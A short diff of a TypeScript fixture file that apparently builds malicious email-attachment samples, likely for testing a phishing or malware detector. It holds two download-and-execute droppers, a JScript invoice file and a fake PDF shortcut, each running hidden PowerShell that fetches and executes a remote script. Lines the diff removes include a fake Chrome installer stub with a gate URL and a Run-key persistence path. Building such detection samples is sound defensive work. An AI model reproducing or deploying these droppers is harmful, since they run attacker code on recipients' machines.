@@ -5,11 +5,9 @@ import { zip, pe, iso, lnk, jsRoute } from '../parts/e-bin.js';
 
 const invoiceZip = zip([{ name: 'Invoice_4471_Oct2025.js', data: "var s=new ActiveXObject('WScript.Shell');s.Run('powershell -w hidden -c \"iwr https://files-invoicing-portal.com/p/st.ps1 -UseBasicParsing|iex\"',0);" }]);
 const dhlIso = iso('DHL_AWB', ['DHL_AWB_7730112.lnk', 'data.dll']);
-const setupExe = pe({ strings: ['ChromeSetup', 'Google LLC', 'http://update-chrome-browser.com/gate.php', 'SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run'], size: 6144 });
 const protectedZip = zip([
   { name: 'Rechnung_2025-11-0412.pdf.lnk', data: lnk('C:\\Windows\\System32\\cmd.exe', '/c start /min powershell -w h -c "iwr https://rechnung-portal-download.de/r/a.ps1|iex"', 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe') },
 ], { encrypted: true });
-const chunked = (buf: Buffer, n: number) => { const s = b64(buf); const out: string[] = []; for (let i = 0; i < s.length; i += n) out.push(s.slice(i, i + n)); return out; };
 
 export const entries: Entry[] = [
 {
